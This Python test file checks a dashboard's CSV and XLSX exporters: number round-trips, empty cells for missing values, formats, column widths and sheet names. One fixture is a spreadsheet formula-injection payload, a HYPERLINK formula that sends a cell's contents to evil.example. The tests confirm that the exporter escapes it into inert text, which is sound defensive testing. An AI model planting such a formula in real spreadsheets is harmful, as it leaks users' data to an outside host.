"""CSV and XLSX exports: the same numbers come back, hostile text stays inert, unknown
stays empty."""

from __future__ import annotations

import io

import numpy as np
import pandas as pd
import pytest
from openpyxl import load_workbook

from dashboards.exports import EXPORT_TYPES, csv_bytes, xlsx_bytes

HOSTILE = '=HYPERLINK("https://evil.example/?q="&A1,"Click me")'


def table() -> pd.DataFrame:
    return pd.DataFrame(
        {
            "period": pd.to_datetime(["2026-06-01", "2026-06-02", "2026-06-03"]),
            "title": [HOSTILE, "Café report – 2026", "-5 reasons"],
            "impressions": [1_234_567.0, np.nan, 0.0],
            "clicks": [12, 0, 3],
            "engagement_rate": [0.125, np.nan, 0.5],
            "change": [-3, 4, 0],
        }
    )


def read_csv(data: bytes) -> pd.DataFrame:
    return pd.read_csv(io.BytesIO(data), encoding="utf-8-sig")


def read_xlsx(data: bytes) -> pd.DataFrame:
    return pd.read_excel(io.BytesIO(data))


def exported(kind: str, frame: pd.DataFrame) -> pd.DataFrame:
    if kind == "csv":
        return read_csv(csv_bytes(frame))
    return read_xlsx(xlsx_bytes(frame, "Top content"))


def test_export_types_name_csv_and_xlsx():
    assert EXPORT_TYPES["csv"] == "text/csv; charset=utf-8"
    assert EXPORT_TYPES["xlsx"].endswith("spreadsheetml.sheet")


def test_csv_starts_with_a_byte_order_mark_for_excel():
    data = csv_bytes(table())
    assert data.startswith(b"\xef\xbb\xbfperiod,title,")
    assert "Café report – 2026" in data.decode("utf-8-sig")


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_round_trip_gives_the_same_numbers(kind):
    back = exported(kind, table())
    pd.testing.assert_series_equal(back["impressions"], table()["impressions"])
    pd.testing.assert_series_equal(back["engagement_rate"], table()["engagement_rate"])
    assert back["clicks"].tolist() == [12, 0, 3]
    assert back["change"].tolist() == [-3, 4, 0]  # negative numbers stay numbers


def test_unknown_stays_an_empty_cell_not_zero_in_csv():
    lines = csv_bytes(table()).decode("utf-8-sig").splitlines()
    assert lines[2] == "2026-06-02,Café report – 2026,,0,,4"
    assert lines[3].startswith("2026-06-03,'-5 reasons,0,3,0.5,")


def test_unknown_stays_an_empty_cell_not_zero_in_xlsx():
    sheet = load_workbook(io.BytesIO(xlsx_bytes(table(), "Sheet"))).active
    assert sheet["C3"].value is None and sheet["E3"].value is None
    assert sheet["C4"].value == 0


def test_hostile_text_is_inert_in_csv():
    back = exported("csv", table())
    assert back.loc[0, "title"] == "'" + HOSTILE
    assert back.loc[2, "title"] == "'-5 reasons"
    assert back.loc[1, "title"] == "Café report – 2026"


def test_hostile_text_is_a_string_not_a_formula_in_xlsx():
    sheet = load_workbook(io.BytesIO(xlsx_bytes(table(), "Top content"))).active
    cell = sheet["B2"]
    assert cell.data_type == "s"
    assert cell.value == "'" + HOSTILE
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)


def test_csv_writes_days_as_dates():
    assert read_csv(csv_bytes(table()))["period"].tolist()[0] == "2026-06-01"


def test_xlsx_has_a_bold_header_dates_percentages_and_separators():
    sheet = load_workbook(io.BytesIO(xlsx_bytes(table(), "Top content"))).active
    assert sheet.title == "Top content"
    assert all(cell.font.b for cell in sheet[1])
    assert sheet.freeze_panes == "A2"
    period, _, impressions, clicks, rate, _ = sheet[2]
    assert period.is_date and period.number_format == "yyyy-mm-dd"
    assert impressions.value == 1_234_567 and impressions.number_format == "#,##0"
    assert clicks.number_format == "#,##0"
    assert rate.value == 0.125 and rate.number_format == "0.0%"


def test_xlsx_columns_are_sized_to_their_content():
    sheet = load_workbook(io.BytesIO(xlsx_bytes(table(), "Top content"))).active
    widths = {cell.value: sheet.column_dimensions[cell.column_letter].width for cell in sheet[1]}
    assert widths["title"] == len("'" + HOSTILE) + 2
    assert widths["clicks"] == len("clicks") + 2
    reach = pd.DataFrame({"reach": [1_234_567, 5]})
    sheet = load_workbook(io.BytesIO(xlsx_bytes(reach, "Reach"))).active
    assert sheet.column_dimensions["A"].width == len("1,234,567") + 2


def test_xlsx_writes_zoned_times_in_utc():
    frame = pd.DataFrame(
        {"at": pd.to_datetime(["2026-06-01 14:30"]).tz_localize("Europe/Lisbon"), "n": [1]}
    )
    cell = load_workbook(io.BytesIO(xlsx_bytes(frame, "Times"))).active["A2"]
    assert cell.value.isoformat() == "2026-06-01T13:30:00"
    assert cell.number_format == "yyyy-mm-dd hh:mm"


def test_xlsx_drops_characters_excel_cannot_hold():
    frame = pd.DataFrame({"title": ["Tab\there, bell\x07 gone"], "n": [1]})
    assert read_xlsx(xlsx_bytes(frame, "T")).loc[0, "title"] == "Tab\there, bell gone"


@pytest.mark.parametrize(
    "name, title",
    [("Top content: June/July?", "Top content June July"), ("x" * 40, "x" * 31), ("[]", "Data")],
)
def test_sheet_names_are_made_acceptable_to_excel(name, title):
    sheet = load_workbook(io.BytesIO(xlsx_bytes(table(), name))).active
    assert sheet.title == title


def test_an_empty_table_exports_its_header():
    empty = table().iloc[:0]
    assert read_csv(csv_bytes(empty)).columns.tolist() == table().columns.tolist()
    assert read_xlsx(xlsx_bytes(empty, "Empty")).columns.tolist() == table().columns.tolist()
